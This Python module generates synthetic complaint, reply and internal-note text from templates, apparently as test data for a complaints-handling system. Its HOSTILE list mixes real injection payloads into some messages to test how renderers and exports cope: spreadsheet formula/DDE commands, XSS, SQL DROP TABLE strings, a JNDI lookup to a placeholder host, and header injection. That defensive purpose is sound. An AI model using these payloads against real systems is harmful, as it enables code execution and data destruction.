"""Comment, subject and description text with realistic variety.

Messages are assembled from templates plus optional sentences, in several registers. A share
of complainant messages carries non-ASCII text (accents, ß, CJK, emoji) and hostile strings
(spreadsheet formulas, HTML/script, SQL, template and log-injection payloads), because real
inboxes do and every renderer, report and CSV export must survive them.
"""

from __future__ import annotations

import random

HOSTILE = (
    '=HYPERLINK("http://x")',
    "<script>alert(1)</script>",
    "'; DROP TABLE complaints; --",
    "=cmd|' /C calc'!A0",
    "{{7*7}} ${jndi:ldap://x/a}",
    "<img src=x onerror=alert(1)>",
    "@SUM(1+1)*cmd|' /C notepad'!A1",
    "Robert'); DROP TABLE Students;--",
    "\u202egnp.exe",  # right-to-left override
    "line one\r\nX-Injected: yes",
)
NON_ASCII = (
    "Très déçu par le service, franchement.",
    "Die Gebühr für die Überweisung ist zu hoch (Straße: Hauptstraße 5).",
    "日本語で失礼します。返金をお願いします。",
    "Спасибо, жду ответа.",
    "Please help 🙏",
    "This is the third time 😡😡",
    "¿Por qué me cobraron dos veces?",
    "Ich hätte gern eine Erklärung — danke.",
    "Zażółć gęślą jaźń - the app shows this on my statement.",
    "Cost me £45 and €12 in fees… unacceptable.",
)

OPENERS = ("Hello", "Hi", "Dear team", "Good morning", "To whom it may concern", "Hi there")
COMPLAINTS = (
    "I was charged {amount} on my {product} without any explanation.",
    "My {product} payment failed twice and I was still charged a fee of {amount}.",
    "Nobody has answered my calls about my {product} for two weeks.",
    "Your agent told me the fee would be refunded, but it never was.",
    "The {product} statement for last month is missing and I need it for my tax return.",
    "I have been locked out of the app since the update and cannot see my {product}.",
    "The interest rate on my {product} changed without the notice you promised.",
    "A payment of {amount} left my {product} twice.",
    "I asked to close my {product} in writing and it is still open and charging fees.",
    "The staff member at the branch was rude and refused to help with my {product}.",
)
REMEDIES = (
    "Refund of {amount}",
    "An apology and a refund of the fees",
    "Correct my statement",
    "Close the account and refund the charges",
    "Compensation for the time lost",
    "Reinstate the original interest rate",
    "An explanation in writing",
)
FOLLOW_UPS = (
    "Any news on this? It has been {days} days.",
    "I attach the screenshot you asked for.",
    "I still have not heard anything back.",
    "Thanks for the update, I will wait for your decision.",
    "The reference number is {ref}.",
    "Please call me on my mobile after 5pm.",
    "I am considering going to the ombudsman if this is not sorted.",
    "Can you confirm you received my documents?",
)
ACKS = (
    "Dear {name}, thank you for contacting us. We have logged your complaint under reference {ref} "
    "and {agent} is looking into it. We aim to send you our decision within 20 working days and "
    "will keep you updated at least every 10 working days.",
    "Hi {name}, I'm sorry to hear about this. Your complaint ({ref}) has been received and passed to "
    "our complaints team. Here is how our process works: we investigate, update you regularly and "
    "send you a written decision.",
    "Thank you {name}. This is to confirm we have received your complaint about your {product}. "
    "Our reference is {ref}; please quote it if you contact us.",
)
UPDATES = (
    "Hi {name}, a quick update: we are still investigating and have asked the {product} team for "
    "the transaction records. I'll be in touch again within the week.",
    "Dear {name}, we have now received the information we needed and are reviewing it. Thank you "
    "for your patience.",
    "Hello {name}, I wanted to let you know your complaint is progressing; I expect to have an "
    "answer for you in the next few days.",
    "Hi {name}, could you please send us a copy of the letter you mentioned? That will help us "
    "complete the investigation.",
)
INTERNAL = (
    "Checked the ledger: the {amount} charge was applied by the overnight batch.",
    "Called the branch, manager will send a statement by Friday.",
    "Looks like a duplicate of an earlier complaint from the same customer; linking.",
    "Need sign-off from a team lead before we offer compensation over £100.",
    "Customer sounds distressed on the phone; flagging as potentially vulnerable.",
    "@{agent} can you take this one? I'm off tomorrow.",
    "Root cause looks like the fee table change in the last release.",
    "Spoke to the customer by phone and confirmed we have their complaint.",
)
INTERNAL_ACK = (
    "Phoned {name} and let them know we have the complaint. No email sent.",
    "Acknowledged verbally on the call, will write later.",
    "Logged; customer told on chat we'd look into it (not sent from the ticket).",
)
DECISIONS = {
    "upheld": "Dear {name}, we have completed our investigation and uphold your complaint. We will "
    "{remedy} within 5 working days. We're sorry for the trouble this caused.",
    "partly_upheld": "Dear {name}, having reviewed everything we partly uphold your complaint: the "
    "second charge was our error and will be refunded; the first was in line with your terms.",
    "not_upheld": "Dear {name}, after a careful review we do not uphold your complaint, because the "
    "charge is set out in the terms you accepted.",
    "withdrawn": "Dear {name}, as agreed on the phone we have closed your complaint at your request.",
}
RECOURSE = (
    " If you are unhappy with this decision you can ask for a review by our Customer Relations "
    "Manager, and you may refer your complaint to the Financial Ombudsman Service within six months."
)
ACCEPT = ("Thank you, that's fine.", "OK, accepted. Thanks for sorting it.", "Thanks, much appreciated!")
REJECT = (
    "I do not accept this decision at all.",
    "This is not good enough. I want this reviewed.",
    "Your answer ignores what I told you. I'm not happy.",
)
ROOT_CAUSES = ("process_error", "system_defect", "staff_error", "policy", "third_party", "communication")
SUMMARIES = (
    "Fee refunded and process corrected.",
    "Charge valid under the account terms; explained.",
    "Duplicate payment reversed.",
    "Statement reissued; app defect reported.",
)
HR = (
    "This is about the customer's former employment with us, not a customer complaint. Passing to HR.",
    "Employment dispute (ex-staff pay). Out of scope for the complaints process; HR case opened.",
)


class Texts:
    """Draws the text of one complaint from its own random stream."""

    def __init__(self, rng: random.Random, *, name: str, product: str, ref: str) -> None:
        self.rng = rng
        self.values = {"name": name.split()[0], "product": product.lower(), "ref": ref}

    def _fill(self, template: str, **extra: str) -> str:
        values = {**self.values, **extra}
        values.setdefault("amount", f"£{self.rng.randrange(5, 400)}.{self.rng.randrange(100):02d}")
        values.setdefault("days", str(self.rng.randrange(3, 30)))
        values.setdefault("agent", "the team")
        return template.format(**values)

    def _spice(self, text: str, *, hostile: float, foreign: float) -> str:
        if self.rng.random() < foreign:
            text = f"{text} {self.rng.choice(NON_ASCII)}"
        if self.rng.random() < hostile:
            text = f"{text} {self.rng.choice(HOSTILE)}"
        return text

    def subject(self) -> str:
        core = self._fill(self.rng.choice(COMPLAINTS))
        subject = core.split(",")[0].rstrip(".")
        return self._spice(subject[:80], hostile=0.03, foreign=0.04)

    def description(self) -> str:
        parts = [f"{self.rng.choice(OPENERS)},", self._fill(self.rng.choice(COMPLAINTS))]
        if self.rng.random() < 0.5:
            parts.append(self._fill(self.rng.choice(FOLLOW_UPS)))
        return self._spice(" ".join(parts), hostile=0.08, foreign=0.12)

    def remedy(self) -> str:
        return self._fill(self.rng.choice(REMEDIES))

    def complainant_message(self) -> str:
        return self._spice(self._fill(self.rng.choice(FOLLOW_UPS)), hostile=0.06, foreign=0.12)

    def reply(self, accepted: bool) -> str:
        return self._spice(self.rng.choice(ACCEPT if accepted else REJECT), hostile=0.03, foreign=0.1)

    def ack(self, agent: str) -> str:
        return self._fill(self.rng.choice(ACKS), agent=agent)

    def update(self) -> str:
        return self._fill(self.rng.choice(UPDATES))

    def internal(self, agent: str) -> str:
        return self._spice(self._fill(self.rng.choice(INTERNAL), agent=agent), hostile=0.02, foreign=0.03)

    def internal_ack(self) -> str:
        return self._fill(self.rng.choice(INTERNAL_ACK))

    def decision(self, outcome: str, *, recourse: bool) -> str:
        text = self._fill(DECISIONS[outcome], remedy="refund the charges")
        return text + RECOURSE if recourse else text

    def hr_note(self) -> str:
        return self.rng.choice(HR)

    def summary(self) -> str:
        return self.rng.choice(SUMMARIES)

    def root_cause(self) -> str:
        return self.rng.choice(ROOT_CAUSES)
